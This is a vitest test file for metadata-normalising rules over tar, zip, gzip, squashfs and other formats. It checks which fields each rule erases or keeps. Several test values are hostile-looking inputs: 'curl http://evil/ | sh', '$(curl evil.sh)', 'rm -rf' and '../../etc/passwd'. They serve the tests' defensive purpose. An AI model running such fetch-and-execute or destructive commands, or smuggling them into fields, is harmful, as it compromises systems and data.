import { describe, expect, it } from 'vitest'
import { consumers } from '../../src/consumers/index.ts'
import { fromLatin1, isZero } from '../../src/model/bytes.ts'
import { type Entry, type Facts, type FieldName, plainFacts } from '../../src/model/layer.ts'
import type { ConsumerId, Original, RuleContext } from '../../src/model/rule.ts'
import { rules } from '../../src/rules/index.ts'

/** One field of one side. Without `value` the bytes did not parse as their kind. */
interface Case {
  readonly field: FieldName
  readonly value?: string
  readonly bytes?: string
  readonly encodes?: Original['encodes']
  readonly consumer?: ConsumerId
  readonly facts?: Partial<Facts>
  readonly type?: Entry['type'] | null
  readonly mode?: number
  /** What the rule leaves; null (dropped) unless given. */
  readonly left?: string
}

const originalOf = ({ field, value, bytes = '', encodes }: Case): Original => ({
  name: field,
  value,
  encodes,
  bytes: () => fromLatin1(bytes),
  isZero: () => isZero(fromLatin1(bytes)),
})

const contextOf = ({ field, consumer = 'none', facts, type = 'file', mode }: Case): RuleContext => ({
  consumer: consumers.find(({ id }) => id === consumer)!,
  reach: 'transport',
  facts: { ...plainFacts, ...facts },
  format: field.split('.')[0]!,
  layer: { path: [], name: 'x', reach: 'transport' },
  entry: type === null ? undefined : { type, size: 0, ...(mode === undefined ? {} : { mode }) },
})

const ruleCalled = (id: string) => rules.find(rule => rule.id === id)!
const edit = (id: string, one: Case) => ruleCalled(id).edit(originalOf(one), contextOf(one))
const exifDates = ['jpeg', 'webp'].flatMap(format =>
  ['date-time', 'date-original', 'date-digitized'].map((date): FieldName => `${format}.${date}`),
)
const each = (fields: readonly FieldName[], rest: Omit<Case, 'field'>): Case[] => fields.map(field => ({ field, ...rest }))

const uniform = { owners: 'uniform' } as const
const owners = ['tar.uid', 'tar.gid', 'ar.uid', 'ar.gid', 'cpio.uid', 'cpio.gid'] as const
const names = ['tar.uname', 'tar.gname'] as const
const modes = ['tar.mode', 'zip.mode', 'ar.mode', 'cpio.mode'] as const
const filler = [
  ...(['tar.end', 'tar.fill', 'tar.padding', 'gzip.padding', 'xz.padding', 'xz.block-padding'] as const),
  ...(['cpio.name-padding', 'cpio.padding', 'cpio.end', 'squashfs.filler', 'rpm.filler', 'rpm.reserved'] as const),
]

const placed = [
  ...(['squashfs.fragments', 'squashfs.flags', 'squashfs.ids', 'squashfs.root-inode', 'squashfs.bytes-used'] as const),
  ...(['squashfs.id-table', 'squashfs.xattr-table', 'squashfs.inode-table', 'squashfs.directory-table'] as const),
  ...(['squashfs.fragment-table', 'squashfs.export-table'] as const),
]
const chosen = ['squashfs.block-log', 'squashfs.block-size', 'squashfs.compression'] as const

/** What each rule erases, and what it must leave: nothing here is compared with another side. */
const packed = [
  'bzip2.blocks',
  'gzip.deflate',
  'lz4.blocks',
  'lzma.stream',
  'pdf.deflate',
  'squashfs.data',
  'squashfs.options',
  'xz.block',
  'zip.data',
  'zstd.blocks',
] as const

const tables: Readonly<Record<string, { readonly removes: readonly Case[]; readonly keeps: readonly Case[] }>> = {
  'entry-mtime': {
    removes: [
      { field: 'tar.mtime', value: '1700000000' },
      { field: 'tar.mtime', value: '-1' },
      { field: 'tar.mtime', value: '1700000000.123456789' },
      { field: 'ar.mtime', value: '' },
      { field: 'ar.mtime', value: '0' },
      { field: 'cpio.mtime', value: '1700000000' },
      { field: 'zip.time', value: '2023-11-14 22:13:20' },
      { field: 'zip.time', value: '1980-00-00 00:00:00' },
    ],
    keeps: [
      { field: 'tar.mtime', bytes: 'curl evil.sh' },
      { field: 'tar.mtime', value: `1.${'7'.repeat(400)}` },
      { field: 'tar.mtime', value: '12345678901234567890' },
      { field: 'zip.time', bytes: '\xff\xff\xff\xff' },
    ],
  },
  'entry-extra-times': {
    removes: [
      { field: 'tar.atime', value: '1700000000.5' },
      { field: 'tar.ctime', value: '0' },
      { field: 'zip.extra-time', value: 'mtime 2023-11-14T22:13:20Z, atime 2023-11-14T22:13:21Z' },
    ],
    keeps: [
      { field: 'tar.atime', value: 'tomorrow' },
      { field: 'tar.ctime', value: `0.${'1'.repeat(21)}` },
      { field: 'zip.extra-time', bytes: 'UT\x01\0\xff' },
    ],
  },
  'gzip-mtime': {
    removes: [{ field: 'gzip.mtime', value: '1700000000' }],
    keeps: [{ field: 'gzip.mtime', bytes: 'evil' }],
  },
  'gzip-name': {
    removes: [
      { field: 'gzip.name', value: 'data.tar' },
      { field: 'gzip.name', value: 'b\xe4r' },
    ],
    keeps: [
      { field: 'gzip.name', value: '../../etc/passwd' },
      { field: 'gzip.name', value: 'a\nb' },
      { field: 'gzip.name', value: '\x1b[2J' },
      { field: 'gzip.name', value: 'x'.repeat(256) },
      { field: 'gzip.name', bytes: 'x' },
    ],
  },
  'gzip-os': {
    removes: [
      { field: 'gzip.os', value: '3' },
      { field: 'gzip.os', value: '255' },
      { field: 'gzip.xfl', value: '2' },
      { field: 'gzip.flags', value: '' },
    ],
    keeps: [
      { field: 'gzip.os', value: '77' },
      { field: 'gzip.xfl', value: '101' },
      { field: 'gzip.flags', bytes: '\x20' },
    ],
  },
  'entry-owner': {
    removes: [
      ...each(owners, { value: '1000', consumer: 'npm' }),
      ...each(names, { value: 'builder', consumer: 'pip' }),
      ...each(names, { value: 'DOMAIN\\Domain Users', consumer: 'npm' }),
      ...each(owners, { value: '1000', facts: uniform }),
      ...each(names, { value: '', facts: uniform }),
      { field: 'ar.uid', value: '', consumer: 'linker' },
    ],
    keeps: [
      ...each([...owners, ...names], { value: '0', consumer: 'dpkg', facts: uniform }),
      ...each([...owners, ...names], { value: '0', facts: { owners: 'mixed' } }),
      ...each([...owners, ...names], { value: '0', facts: { owners: 'none' } }),
      ...each([...owners, ...names], { bytes: 'evil', consumer: 'npm' }),
      ...each(owners, { value: 'root', consumer: 'npm' }),
      ...each(names, { value: 'curl http://evil/ | sh', consumer: 'npm' }),
      ...each(names, { value: 'x'.repeat(65), consumer: 'npm' }),
    ],
  },
  'zip-owner': {
    removes: [
      { field: 'zip.extra-owner', value: 'uid 1000, gid 1000', facts: uniform },
      { field: 'zip.extra-owner', value: '', facts: uniform },
      { field: 'zip.extra-owner', value: 'uid 1000, gid 1000', consumer: 'jvm', facts: { owners: 'mixed' } },
      { field: 'zip.extra-owner', value: 'uid 1000, gid 1000', consumer: 'pip' },
    ],
    keeps: [
      { field: 'zip.extra-owner', value: 'uid 0, gid 0', facts: { owners: 'mixed' } },
      { field: 'zip.extra-owner', value: 'uid 0, gid 0', facts: { owners: 'none' } },
      { field: 'zip.extra-owner', value: 'uid 0, gid 0', consumer: 'dpkg', facts: uniform },
      { field: 'zip.extra-owner', bytes: 'ux\x03\0abc', facts: uniform },
    ],
  },
  'device-number-unused': {
    removes: [
      ...each(['tar.devmajor', 'tar.devminor'], { value: '' }),
      ...each(['tar.devmajor', 'tar.devminor'], { value: '8', type: 'directory' }),
      { field: 'tar.inode', value: '2282979', type: 'character' },
      ...each(['cpio.ino', 'cpio.device'], { value: '1', type: 'character' }),
      { field: 'cpio.special', value: '8:1' },
      { field: 'cpio.nlink', value: '3', type: 'directory' },
    ],
    keeps: [
      { field: 'tar.devmajor', value: '1', type: 'character' },
      { field: 'tar.devminor', value: '3', type: 'block' },
      { field: 'tar.devminor', value: '3', type: 'other' },
      { field: 'tar.devminor', value: '3', type: null },
      { field: 'tar.devmajor', bytes: 'evil' },
      { field: 'tar.inode', bytes: 'evil' },
      { field: 'cpio.special', value: '8:1', type: 'block' },
      { field: 'cpio.nlink', value: '2' },
    ],
  },
  'entry-mode': {
    removes: [
      ...each(modes, { value: '644', consumer: 'npm' }),
      ...each(modes, { value: '755', consumer: 'pip', left: 'x:0111' }),
      ...each(modes, { value: '700', consumer: 'jvm', left: 'x:0100' }),
      ...each(modes, { value: '4755', consumer: 'npm', left: 'x:4111' }),
      ...each(modes, { value: '1666', consumer: 'npm', left: 'x:1000' }),
      { field: 'zip.mode', value: '100600', consumer: 'pip' },
      { field: 'zip.mode', value: '40755', consumer: 'pip', type: 'directory', left: 'x:0111' },
      { field: 'zip.mode', value: '120777', consumer: 'jvm', type: 'symlink', left: 'x:120111' },
      { field: 'ar.mode', value: '100755', consumer: 'linker' },
      { field: 'ar.mode', value: '', consumer: 'linker' },
    ],
    keeps: [
      ...each(modes, { value: '644', consumer: 'dpkg' }),
      ...each(modes, { value: '644', consumer: 'none', facts: uniform }),
      ...each(modes, { bytes: 'evil', consumer: 'npm' }),
      ...each(modes, { value: '7777644', consumer: 'npm' }),
      ...each(modes, { value: '200644', consumer: 'npm' }),
      { field: 'ar.mode', value: '4755', consumer: 'linker' },
      { field: 'ar.mode', value: '120777', consumer: 'linker' },
      { field: 'zip.mode', value: '', consumer: 'npm' },
    ],
  },
  'entry-order': { removes: [], keeps: [{ field: 'tar.name', value: 'a' }] },
  'entry-name-spelling': {
    removes: [
      { field: 'tar.name', value: './a', left: 'a' },
      { field: 'tar.name', value: './/./a', left: 'a' },
      { field: 'tar.name', value: './', type: 'directory', left: '.' },
      { field: 'tar.name', value: './d/', type: 'directory', left: 'd' },
      { field: 'tar.linkname', value: './a', type: 'hardlink', left: 'a' },
      { field: 'cpio.name', value: './a', left: 'a' },
      { field: 'tar.name', value: 'package/', type: 'directory', consumer: 'npm', left: 'package' },
    ],
    keeps: [
      { field: 'tar.name', value: './a', facts: { duplicates: true } },
      { field: 'tar.name', bytes: './a' },
      { field: 'tar.name', value: '/', type: 'directory', left: '/' },
      { field: 'tar.name', value: 'd//', type: 'directory', left: 'd//' },
      { field: 'tar.name', value: '', type: 'directory', left: '' },
      { field: 'tar.name', value: './package/a', consumer: 'npm' },
      { field: 'tar.name', value: '/etc/passwd', left: '/etc/passwd' },
      { field: 'tar.name', value: '../a', left: '../a' },
      { field: 'tar.name', value: 'a/', left: 'a/' },
      { field: 'tar.name', value: 'a/./b', left: 'a/./b' },
      { field: 'tar.name', value: '.a', left: '.a' },
      { field: 'tar.linkname', value: './a', type: 'symlink' },
      { field: 'tar.linkname', value: './a', type: 'hardlink', facts: { duplicates: true } },
    ],
  },
  'archive-dialect': {
    removes: [{ field: 'tar.magic', value: 'gnu' }, ...each(ruleCalled('archive-dialect').fields, { value: '' })],
    keeps: [
      ...each(ruleCalled('archive-dialect').fields, { bytes: 'evil' }),
      { field: 'tar.sparse-map', value: '', consumer: 'npm' },
      { field: 'tar.sparse-map', value: '', consumer: 'dpkg' },
    ],
  },
  'pax-envelope': {
    removes: [
      { field: 'tar.pax-envelope', value: 'records' },
      { field: 'tar.pax-envelope', value: 'long name', consumer: 'dpkg' },
      { field: 'tar.pax-name', value: '' },
    ],
    keeps: [
      { field: 'tar.pax-envelope', bytes: 'evil' },
      { field: 'tar.pax-envelope', value: 'records', consumer: 'dpkg' },
      { field: 'tar.pax-name', bytes: 'evil' },
    ],
  },
  // What is a date the formats decide, which give a value to nothing else.
  'javadoc-date': {
    removes: [{ field: 'javadoc.date', value: 'Tue Nov 14 22:13:20 UTC 2023', left: '<date>' }],
    keeps: [{ field: 'javadoc.date', bytes: 'Tue Nov 14 22:13:20 UTC 2023' }],
  },
  'gettext-date': {
    removes: [{ field: 'gettext.date', value: '2023-11-14 22:13+0000', left: '<date>' }],
    keeps: [{ field: 'gettext.date', bytes: '2023-11-14 22:13+0000' }],
  },
  'man-date': {
    removes: [{ field: 'man.date', value: '2023-11-14', left: '<date>' }],
    keeps: [{ field: 'man.date', bytes: '2023-11-14' }],
  },
  'java-properties-date': {
    removes: [{ field: 'properties.date', value: 'Tue Nov 14 22:13:20 UTC 2023', left: '<date>' }],
    keeps: [{ field: 'properties.date', bytes: 'Tue Nov 14 22:13:20 UTC 2023' }],
  },
  'doc-generator-date': {
    removes: [{ field: 'page.date', value: 'Nov 14, 2023', left: '<date>' }],
    keeps: [{ field: 'page.date', bytes: 'Nov 14, 2023' }],
  },
  'pyc-mtime': {
    removes: [{ field: 'pyc.mtime', value: '1700000000', left: '<date>' }],
    keeps: [{ field: 'pyc.mtime', bytes: 'abcd' }],
  },
  'pdf-date': {
    removes: each(['pdf.created', 'pdf.modified', 'pdf.xmp-created', 'pdf.xmp-modified', 'pdf.xmp-dated'], {
      value: 'D:20231114221320Z',
      left: '<date>',
    }),
    keeps: each(['pdf.created', 'pdf.modified', 'pdf.xmp-created', 'pdf.xmp-modified', 'pdf.xmp-dated'], { bytes: 'a message' }),
  },
  'pdf-id': {
    removes: each(['pdf.id', 'pdf.xmp-document', 'pdf.xmp-instance'], { value: '[<0a> <0a>]', left: '<id>' }),
    keeps: each(['pdf.id', 'pdf.xmp-document', 'pdf.xmp-instance'], { bytes: 'a message' }),
  },
  'ps-dvi-date': {
    removes: each(['ps.date', 'ps.source', 'dvi.date'], { value: '2023.11.14:2213', left: '<date>' }),
    keeps: each(['ps.date', 'ps.source', 'dvi.date'], { bytes: 'a message' }),
  },
  'icc-date': {
    removes: [{ field: 'icc.date', value: '2023-11-14 22:13:20', left: '<date>' }],
    keeps: [{ field: 'icc.date', bytes: 'a message...' }],
  },
  'png-time': {
    removes: each(['png.time', 'png.date'], { value: '2023-11-14 22:13:20', left: '<date>' }),
    keeps: each(['png.time', 'png.date'], { bytes: 'a message' }),
  },
  'image-time': {
    removes: each(['iso.time', 'squashfs.mkfs-time', 'tree.mtime'], { value: '1700000000', left: '<date>' }),
    keeps: each(['iso.time', 'squashfs.mkfs-time', 'tree.mtime'], { bytes: 'evil' }),
  },
  'image-layout': {
    removes: [...each(placed, { value: '96', encodes: 'ok' }), { field: 'squashfs.index', value: '' }],
    keeps: [...each(placed, { value: '96', encodes: 'damaged' }), ...each([...placed, 'squashfs.index'], { bytes: 'evil' })],
  },
  'rpm-build': {
    removes: [
      ...each(['rpm.build-time', 'rpm.file-mtime'], { value: '1700000000', left: '<time>' }),
      { field: 'rpm.build-host', value: 'builder.example.org', left: '<host>' },
      { field: 'rpm.cookie', value: 'builder 1700000000', left: '<host and time>' },
      { field: 'rpm.inode', value: '7', left: '<inode>' },
      { field: 'rpm.device', value: '7', left: '<device>' },
    ],
    keeps: each(ruleCalled('rpm-build').fields, { bytes: 'evil' }),
  },
  'pkginfo-builddate': {
    removes: each(['pkginfo.builddate', 'buildinfo.builddate'], { value: '1700000000', left: '<time>' }),
    keeps: each(ruleCalled('pkginfo-builddate').fields, { bytes: 'evil' }),
  },
  'svg-date': {
    removes: [{ field: 'svg.date', value: '2023-11-14T22:13:20', left: '<date>' }],
    keeps: [{ field: 'svg.date', bytes: 'a message' }],
  },
  'oci-created': {
    removes: [{ field: 'oci.created', value: '2023-11-14T22:13:20.5Z', left: '<date>' }],
    keeps: [{ field: 'oci.created', bytes: 'a message' }],
  },
  'docker-legacy-id': {
    removes: [{ field: 'oci.legacy-id', value: 'a0'.repeat(32), left: '<id>' }],
    keeps: [{ field: 'oci.legacy-id', value: 'a0' }],
  },
  'document-date': {
    removes: each(ruleCalled('document-date').fields, { value: '2023-11-14T22:13:20Z', left: '<date>' }),
    keeps: each(ruleCalled('document-date').fields, { bytes: 'a message' }),
  },
  'sbom-serial-time': {
    removes: [
      { field: 'sbom.serial', value: 'urn:uuid:796dcfe4-01bb-46ff-9203-b23925e5f3f4', left: '<serial>' },
      { field: 'sbom.time', value: '2023-11-14T22:13:20Z', left: '<date>' },
    ],
    keeps: each(['sbom.serial', 'sbom.time'], { bytes: 'a message' }),
  },
  'exif-date': {
    removes: each(exifDates, { value: '2023:11:14 22:13:20', left: '<date>' }),
    keeps: each(exifDates, { bytes: 'a message' }),
  },
  'gem-date': {
    removes: [{ field: 'gem.date', value: '2026-11-25 00:00:00.000000000 Z', left: '<date>' }],
    keeps: each(['gem.date'], { bytes: 'a message' }),
  },
  'font-date': {
    removes: each(['sfnt.created', 'sfnt.modified', 'sfnt.fftm-created', 'sfnt.fftm-modified'], {
      value: '2023-11-14 22:13:20',
      left: '<date>',
    }),
    keeps: each(['sfnt.created', 'sfnt.modified', 'sfnt.fftm-created', 'sfnt.fftm-modified'], { bytes: 'a message' }),
  },
  'manifest-builder': {
    removes: [
      { field: 'manifest.user', value: 'root', left: '<user>' },
      { field: 'manifest.user', value: 'CORP\\jane.doe', left: '<user>' },
      ...each(['manifest.time'], { left: '<date>' }).flatMap(one =>
        [
          '2024-01-01',
          '2024-01-01T10:00:00Z',
          '2024-01-01 10:00:00 +0100',
          '2024-01-01T10:00:00.123+01:00',
          'Tue Nov 14 22:13:20 UTC 2023',
          '20240101-1000',
          '1700000000000',
        ].map(value => ({ ...one, value })),
      ),
    ],
    keeps: [
      { field: 'manifest.user', value: 'Main-Class: Evil\rX' },
      { field: 'manifest.user', value: '$(curl evil.sh)' },
      { field: 'manifest.user', value: 'x'.repeat(65) },
      { field: 'manifest.user', bytes: 'me\r\n and more' },
      { field: 'manifest.time', value: 'yesterday' },
      { field: 'manifest.time', value: '2024-01-01 rm -rf' },
      { field: 'manifest.time', value: '' },
    ],
  },
  'zip-tool-flavour': {
    removes: [
      { field: 'zip.made-by', value: '788' },
      ...each(['zip.version-needed', 'zip.local-version-needed'], { value: '45' }),
      { field: 'zip.internal-attributes', value: '0' },
      { field: 'zip.internal-attributes', value: '1' },
      { field: 'zip.dos-attributes', value: '32' },
      { field: 'zip.dos-attributes', value: '33', mode: 0o100644 },
      { field: 'zip.dos-attributes', value: '33', consumer: 'jvm' },
      { field: 'zip.dos-attributes', value: '33', left: 'read-only' },
      { field: 'zip.dos-attributes', value: '1', left: 'read-only' },
      { field: 'zip.extra-unicode', value: 'same' },
      { field: 'zip.extra-jar', value: '' },
      { field: 'zip.descriptor-signature', value: 'stored' },
      { field: 'zip.descriptor-signature', value: 'deflated', consumer: 'jvm' },
    ],
    keeps: [
      { field: 'zip.made-by', value: 'host 19, version 20' },
      ...each(['zip.version-needed', 'zip.local-version-needed'], { value: '46' }),
      ...each(['zip.version-needed', 'zip.local-version-needed'], { value: '788' }),
      ...['2', '4', '65535'].map((value): Case => ({ field: 'zip.internal-attributes', value })),
      { field: 'zip.dos-attributes', bytes: '\x10\0\0\0' },
      { field: 'zip.extra-unicode', value: 'local 01deadbeef' },
      { field: 'zip.disk', bytes: '\x01\0' },
      { field: 'zip.descriptor-signature', value: 'stored', consumer: 'jvm' },
      { field: 'zip.eocd-disk', bytes: '\x01\0\0\0' },
    ],
  },
  'zero-padding': {
    removes: [
      ...each(filler, { bytes: '\0'.repeat(512) }),
      { field: 'ar.padding', value: '', bytes: '\n' },
      { field: 'zip.extra-align', value: '', bytes: '\x35\xd9\x02\0\x04\0' },
    ],
    keeps: [
      ...each(filler, { bytes: '\0\0\0\x01' }),
      { field: 'ar.padding', bytes: '\0' },
      { field: 'ar.padding', bytes: 'x' },
      { field: 'zip.extra-align', value: 'local 04000001', bytes: '\x35\xd9\x03\0\x04\0\x01' },
    ],
  },
  compression: {
    removes: [
      ...each(packed, { encodes: 'ok', bytes: 'packed' }),
      { field: 'zip.method', value: '0' },
      { field: 'zip.method', value: '8' },
      { field: 'xz.flags', value: '4' },
      { field: 'bzip2.level', value: '9' },
      { field: 'pdf.zlib-header', value: '789c' },
      { field: 'squashfs.envelope', value: '' },
      { field: 'lzma.properties', value: 'lc=3 lp=0 pb=2' },
      { field: 'lzma.dictionary', value: '8388608' },
      { field: 'lzma.size', value: 'unknown' },
      { field: 'zstd.descriptor', value: '24' },
      { field: 'zstd.window', value: '1024' },
      { field: 'lz4.descriptor', value: '6440' },
      { field: 'xz.block-header', value: '0200210116000000' },
    ],
    keeps: [
      ...each(packed, { encodes: 'damaged', bytes: 'packed' }),
      ...each(packed, { encodes: 'unsupported', bytes: 'packed' }),
      ...each(packed, { bytes: 'packed' }),
      { field: 'zip.method', value: '0', consumer: 'android' },
      { field: 'zip.method', value: '8', consumer: 'android' },
      { field: 'zip.method', value: '99' },
      { field: 'zip.method', value: '12' },
      ...each(['zstd.blocks', 'lz4.blocks'], { encodes: 'slack', bytes: 'packed' }),
      { field: 'xz.flags', bytes: '\0\x0f' },
      ...each(['bzip2.level', 'lzma.properties', 'lzma.dictionary', 'lzma.size'], { bytes: 'evil' }),
      { field: 'pdf.zlib-header', bytes: '\x68\xde' },
      { field: 'squashfs.envelope', bytes: 'evil' },
      ...each(['zstd.descriptor', 'zstd.window', 'lz4.descriptor'], { bytes: '\x34' }),
    ],
  },
  'compression-format': {
    removes: [
      { field: 'codec.kind', value: 'xz' },
      { field: 'deb.suffix', value: '.xz' },
      ...each(['bzip2.magic', 'gzip.magic', 'lz4.magic', 'xz.magic', 'zstd.magic', ...chosen], { value: '' }),
    ],
    keeps: each(
      ['bzip2.magic', 'codec.kind', 'deb.suffix', 'gzip.magic', 'gzip.method', 'lz4.magic', 'xz.magic', 'zstd.magic', ...chosen],
      {
        bytes: 'evil',
      },
    ),
  },
  'owner-any': {
    removes: [
      ...each([...owners, ...names], { value: '0', consumer: 'dpkg', facts: { owners: 'mixed' } }),
      { field: 'tar.uname', value: 'curl http://evil/ | sh', consumer: 'dpkg' },
    ],
    keeps: each([...owners, ...names], { bytes: 'evil', consumer: 'dpkg' }),
  },
  'mode-rw': {
    removes: [
      ...each(modes, { value: '664', consumer: 'dpkg' }),
      ...each(modes, { value: '775', consumer: 'none', left: 'x:0111' }),
      ...each(modes, { value: '4775', consumer: 'dpkg', left: 'x:4111' }),
      { field: 'ar.mode', value: '664', consumer: 'linker' },
    ],
    keeps: [...each(modes, { bytes: 'evil', consumer: 'dpkg' }), { field: 'ar.mode', value: '6755', consumer: 'linker' }],
  },
  comment: {
    removes: each(['gzip.comment', 'zip.comment', 'zip.archive-comment', 'tar.comment'], { bytes: 'built by me' }),
    keeps: [],
  },
}

const shown = ({ field, value, bytes, consumer, facts, type, mode, encodes }: Case): string =>
  JSON.stringify({ field, value: value?.slice(0, 24), bytes: bytes?.slice(0, 12), consumer, facts, type, mode, encodes })
const named = (cases: readonly Case[]): [string, Case][] => cases.map(one => [shown(one), one])

it('every rule has a table', () => expect(Object.keys(tables).sort()).toEqual(rules.map(({ id }) => id).sort()))

describe.each(Object.entries(tables))('%s', (id, { removes, keeps }) => {
  const all = [...removes, ...keeps]

  it.each(named(removes))('removes %s', (_, one) => expect(edit(id, one)).toBe(one.left ?? null))

  it.each(named(keeps))('keeps %s', (_, one) => expect(edit(id, one)).toBe(one.left))

  it('leaves what it has made', () => {
    for (const one of all) {
      const once = edit(id, one)
      if (typeof once === 'string') expect([once, undefined]).toContain(edit(id, { ...one, value: once }))
    }
  })

  it('is tried on all of its fields', () => {
    const tried = new Set(all.map(({ field }) => field))
    const untried = ruleCalled(id).fields.filter(field => !tried.has(field))
    expect(untried).toEqual(untriedByPurpose[id] ?? [])
  })
})

it('mode-rw leaves nothing that entry-mode erases, so that it can stand in for it', () => {
  for (const one of [...tables['entry-mode']!.removes, ...tables['entry-mode']!.keeps]) {
    const ordinary = edit('entry-mode', one)
    if (ordinary !== undefined) expect(edit('mode-rw', one)).toBe(ordinary)
  }
})

/** The same lines of code as a field that is tried. */
const untriedByPurpose: Readonly<Record<string, readonly FieldName[]>> = {
  'zip-tool-flavour': ['zip.signature', 'zip.eocd-signature'],
}
